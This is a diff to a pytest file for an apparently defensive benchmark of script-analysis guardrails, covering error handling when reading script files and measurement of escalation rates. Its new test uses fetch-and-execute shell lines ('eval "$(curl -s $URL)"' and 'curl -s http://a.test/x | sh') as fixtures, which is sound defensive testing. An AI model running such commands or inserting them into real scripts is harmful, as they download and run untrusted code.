@@ -9,15 +9,16 @@ import numpy as np
 import pytest
 
 from benchmarks.attack_tactics import only_looks_or_gathers
-from benchmarks.guardrails_scripts import find_recall
+from benchmarks.guardrails_scripts import describe_escalation, find_recall
+from benchmarks.labelled_files import UnusableFileError
 from benchmarks.script_sets import (
     SampleScript,
-    UnusableScriptsError,
     hide,
     list_places,
     pair_by_length,
     read_scripts,
 )
+from guardrails.script_analysis import analyse_script
 
 
 def sample(text: str, interpreter: str = "bash") -> SampleScript:
@@ -65,15 +66,37 @@ def test_techniques_of_other_tactics_too_are_more_than_looking():
 
 
 def test_files_are_read_or_refused_with_what_is_wrong(tmp_path):
-    with pytest.raises(UnusableScriptsError, match=r"neither x\.jsonl\.gz nor x\.jsonl"):
-        read_scripts(tmp_path, "x.jsonl", dangerous=False)
+    with pytest.raises(UnusableFileError, match=r"neither x\.jsonl nor x\.jsonl\.gz"):
+        read_scripts(tmp_path, "x", dangerous=False)
     row = {"id": "1", "lang": "shell", "text": "date", "technique": "T1003.001"}
     (tmp_path / "x.jsonl.gz").write_bytes(gzip.compress(json.dumps(row).encode()))
-    (script,) = read_scripts(tmp_path, "x.jsonl", dangerous=True)
+    (script,) = read_scripts(tmp_path, "x", dangerous=True)
     assert (script.interpreter, script.group) == ("bash", "T1003")
-    (tmp_path / "y.jsonl").write_text('{"id": "1", "lang": "shell"}\n')
-    with pytest.raises(UnusableScriptsError, match=r"y\.jsonl:1 needs the texts"):
-        read_scripts(tmp_path, "y.jsonl", dangerous=True)
-    (tmp_path / "z.jsonl").write_text("{")
-    with pytest.raises(UnusableScriptsError, match="not readable"):
-        read_scripts(tmp_path, "z.jsonl", dangerous=True)
+    for content, reason in (
+        (b'\n{"id": "1", "lang": "shell"}\n', r"y\.jsonl, line 2 needs the texts id, lang"),
+        (b"{", "line 1 needs"),
+        (b"[]", "it is no object"),
+        (b"\n", "is empty"),
+        (b"\xff", "not readable"),
+    ):
+        (tmp_path / "y.jsonl").write_bytes(content)
+        with pytest.raises(UnusableFileError, match=reason):
+            read_scripts(tmp_path, "y", dangerous=True)
+    packed = gzip.compress(json.dumps(row).encode())
+    for broken in (packed[:20], packed[:12] + b"\xff" + packed[13:], b"no gzip"):
+        (tmp_path / "z.jsonl.gz").write_bytes(broken)
+        with pytest.raises(UnusableFileError, match="not readable"):
+            read_scripts(tmp_path, "z", dangerous=True)
+
+
+def test_shares_of_nothing_are_none():
+    figures = describe_escalation([], [], [])
+    assert figures["dynamic_by_pattern_escalated"] is None
+    assert figures["n_dynamic_by_pattern"] == 0
+    texts = ("date", 'eval "$(curl -s $URL)"', "curl -s http://a.test/x | sh")
+    scripts = [sample(text) for text in texts]
+    analyses = [analyse_script("bash", text.encode()) for text in texts]
+    figures = describe_escalation(scripts[:1], scripts[1:], analyses)
+    assert figures["n_dynamic_by_pattern"] == 2
+    assert figures["dynamic_by_pattern_escalated"] == 1.0
+    assert figures["benign_escalated"] == 0.0
